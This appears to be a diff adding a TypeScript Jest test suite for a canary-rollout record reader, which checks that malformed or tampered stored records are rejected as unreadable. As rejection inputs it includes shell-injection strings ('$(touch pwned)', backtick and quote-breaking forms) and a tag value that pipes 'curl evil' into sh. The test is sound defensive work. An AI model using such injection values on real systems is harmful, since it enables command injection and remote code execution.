@@ -1,0 +1,144 @@
+import { describe, expect, it } from '@jest/globals';
+import {
+  canaryTag,
+  pauseTag,
+  type RolloutRecord,
+  readStoredState,
+  recordTags,
+} from '../../../src/rollout/record.ts';
+import { sealText } from '../../../src/rollout/record-text.ts';
+import { makeRecord, STAGE_RECORD, STARTED_AT } from './rollout-fixture.ts';
+
+const URI = 'arn:aws:apigateway:eu-west-1:lambda:path/2015-03-31/functions/arn:orders';
+
+const OF_STAGE = makeRecord({
+  plan: {
+    steps: [{ weight: 5, holdSeconds: 300 }],
+    advance: { kind: 'evidence', minSeconds: 60, maxSeconds: 600 },
+    bakeSeconds: 0,
+  },
+  target: {
+    ...STAGE_RECORD,
+    variables: { version: '7', fresh: null },
+    overrides: { version: '8', fresh: 'https://x/~a?b=1&c=2,3#d' },
+    drafts: [
+      {
+        resourceId: 'abc123',
+        method: 'GET',
+        from: `${URI}:7/invocations`,
+        to: `${URI}:8/invocations`,
+      },
+    ],
+    shadow: 'prod-canary-shadow',
+    warmed: { orders: 3 },
+  },
+  pull: 12,
+  preview: 12,
+});
+const OF_ALIAS = makeRecord({
+  plan: { steps: [], advance: { kind: 'time', maxSeconds: 600 }, bakeSeconds: 60 },
+  target: { kind: 'alias', aliases: { orders: 'live' }, warmed: { orders: 3 }, kept: ['orders'] },
+});
+
+type Path = readonly (string | number)[];
+
+/** Every member of a value, however deep. */
+function pathsIn(value: unknown, path: Path = []): readonly Path[] {
+  const deeper =
+    typeof value === 'object' && value !== null
+      ? Object.entries(value).flatMap(([name, one]) => pathsIn(one, [...path, name]))
+      : [];
+  return path.length > 0 ? [path, ...deeper] : deeper;
+}
+
+/** The same record with another value at one place; `undefined`: without that member. */
+function withMember(record: RolloutRecord, path: Path, value: unknown): RolloutRecord {
+  const copy = structuredClone(record);
+  const last = path.at(-1) ?? '';
+  const holder = path.slice(0, -1).reduce((at, name) => (at as never)[name], copy as object);
+  Object.assign(holder, { [last]: value });
+  return copy;
+}
+
+/** With a good checksum, as whoever may write tags can make one. */
+const read = (record: RolloutRecord) =>
+  readStoredState({
+    'canary-action:phase': 'preparing',
+    'canary-action:record.1-1': sealText(JSON.stringify({ v: 1, ...record })),
+  });
+const cases = [OF_STAGE, OF_ALIAS].flatMap((record) =>
+  pathsIn(record).map((path) => [path.join('.'), record, path] as const),
+);
+
+/** Members that may be left out, or hold nothing. */
+const OPTIONAL =
+  /^(pull|preview|plan\.advance\.maxSeconds|target\.(shadow|warmed|kept)(\..*)?|target\.variables\.fresh)$/;
+
+describe('A record', () => {
+  it('of a stage and of an alias is read as it was written', () => {
+    for (const record of [OF_STAGE, OF_ALIAS]) {
+      expect(read(record)).toMatchObject({ kind: 'rollout', storedRollout: { record } });
+    }
+  });
+
+  it.each(cases)('is unreadable where %s is of another type', (_, record, path) => {
+    const good = path.reduce((at, name) => (at as never)[name], record as unknown);
+    for (const junk of [{ x: 1 }, [[]], true, 'x y', 7.5, -1, 1e30, null]) {
+      if (typeof junk === typeof good && typeof junk === 'boolean') continue;
+      if (junk === 7.5 && typeof good === 'number') continue;
+      if (junk === null && path.join('.').startsWith('target.variables.')) continue;
+      expect([junk, read(withMember(record, path, junk)).kind]).toEqual([junk, 'unreadable']);
+    }
+  });
+
+  it.each(cases)('is unreadable without %s, unless that may be left out', (_, record, path) => {
+    const { kind } = read(withMember(record, path, undefined));
+    expect(kind).toBe(
+      OPTIONAL.test(path.join('.')) && kind === 'rollout' ? 'rollout' : 'unreadable',
+    );
+  });
+
+  it.each(cases)('is unreadable where %s could end a word of a shell', (_, record, path) => {
+    for (const text of ["1'; touch pwned; '", '$(touch pwned)', '`touch pwned`', 'x\ny', '7"']) {
+      expect(read(withMember(record, path, text)).kind).toBe('unreadable');
+    }
+  });
+
+  it.each<[string, Partial<RolloutRecord>]>([
+    ['names a function twice', { functions: [...OF_ALIAS.functions, ...OF_ALIAS.functions] }],
+    [
+      'has a function without an alias',
+      { target: { kind: 'alias', aliases: { payments: 'live' } } },
+    ],
+    ['has a number for an alias', { target: { kind: 'alias', aliases: { orders: '7' } } }],
+    ['releases $LATEST', { functions: [{ name: 'orders', from: '7', to: '$LATEST' }] }],
+    [
+      'restores a variable that it does not override',
+      { target: { ...STAGE_RECORD, overrides: {} } },
+    ],
+    [
+      'has a method that API Gateway has not',
+      {
+        target: {
+          ...STAGE_RECORD,
+          drafts: [{ resourceId: 'a', method: 'TRACE', from: URI, to: URI }],
+        },
+      },
+    ],
+  ])('is unreadable where it %s', (_, parts) => {
+    expect(read(makeRecord({ ...parts })).kind).toBe('unreadable');
+  });
+
+  it('is unreadable where the deployment of its canary, or its pause, is none', () => {
+    const tags = recordTags(OF_STAGE, { kind: 'preparing' });
+    const pause = pauseTag({ since: STARTED_AT, by: OF_STAGE.id });
+    expect(readStoredState({ ...tags, ...canaryTag('new222'), ...pause }).kind).toBe('rollout');
+    for (const strange of [
+      canaryTag('x; curl evil|sh #'),
+      canaryTag(''),
+      { 'canary-action:paused': 'yes' },
+    ]) {
+      expect(readStoredState({ ...tags, ...strange }).kind).toBe('unreadable');
+    }
+  });
+});
